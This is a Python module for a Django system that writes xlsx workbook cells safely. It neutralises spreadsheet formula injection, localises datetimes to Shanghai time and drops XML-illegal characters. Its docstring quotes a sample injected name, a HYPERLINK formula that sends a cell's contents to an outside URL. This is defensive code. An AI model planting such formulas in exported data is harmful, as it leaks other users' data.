"""The one place xlsx cells are written. Every workbook the system hands out (catalogue list,
reports, e-supervision tables, statistics, duty boundaries) puts its values through here, so
two rules hold for all of them:

- Text a spreadsheet would read as a formula stays text. openpyxl turns any string starting
  with "=" into a formula, and Excel or WPS re-evaluates a cell starting with =, +, -, @ (or
  their full-width forms, or a leading tab or CR) as soon as someone edits it: an applicant
  named `=HYPERLINK("http://…"&B3,"查看")` would become a live link in an overseer's sheet
  (OWASP "CSV injection"). Such a cell is stored as a string with the quote-prefix style,
  which is what Excel itself does for a typed `'=…`; the text is unchanged, so an exported
  catalogue imports back as it was.
- A time is China's time. An aware datetime becomes Asia/Shanghai (settings.TIME_ZONE) wall
  time, without a zone, because xlsx has none; a stored 08:33 UTC shows as 16:33.

Characters XML 1.0 cannot carry (control characters) are dropped instead of failing the
download. No domain imports: any app may use this module."""

import datetime
import re
from io import BytesIO

from django.utils import timezone
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.cell.cell import Cell as SheetCell
from openpyxl.worksheet.worksheet import Worksheet

# ASCII and full-width (U+FF1D ＝, U+FF0B ＋, U+FF0D －, U+FF20 ＠) starts, and the
# whitespace OWASP lists, which some spreadsheets skip before looking for a formula.
FORMULA_START = re.compile("^[=+\\-@\t\r\n\uff1d\uff0b\uff0d\uff20]")


def looks_like_formula(text: str) -> bool:
    return bool(FORMULA_START.match(text))


def cell_value(value):
    """What a cell holds for `value`: local naive time for an aware datetime, text without
    XML-illegal characters; other values as they are."""
    if isinstance(value, Promise):  # a lazy translation
        value = str(value)
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.localtime(value)
        return value.replace(tzinfo=None)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def _as_text(cell, value) -> None:
    if isinstance(value, str) and looks_like_formula(value):
        cell.data_type = "s"
        cell.quotePrefix = True


def put(sheet: Worksheet, row: int, column: int, value):
    """Write `value` into a normal (not write-only) sheet; returns the cell for styling."""
    value = cell_value(value)
    cell = sheet.cell(row=row, column=column, value=value)
    _as_text(cell, value)
    return cell


def cell(sheet, value) -> SheetCell:
    """A cell for a write-only sheet's `append`, with the same rules as `put`."""
    value = cell_value(value)
    written = WriteOnlyCell(sheet, value=value)
    _as_text(written, value)
    return written


def append(sheet, values) -> None:
    """Append one row to a write-only sheet; values may be plain or prepared cells."""
    sheet.append([v if isinstance(v, SheetCell) else cell(sheet, v) for v in values])


def to_bytes(book: Workbook) -> bytes:
    """The workbook's bytes. A normal workbook is checked once more: nothing the system
    writes is a formula, so a cell that became one by a direct write is turned back to text."""
    if not book.write_only:
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for c in row:
                    if c.data_type == "f":
                        c.data_type = "s"
                        c.quotePrefix = True
    out = BytesIO()
    book.save(out)
    return out.getvalue()
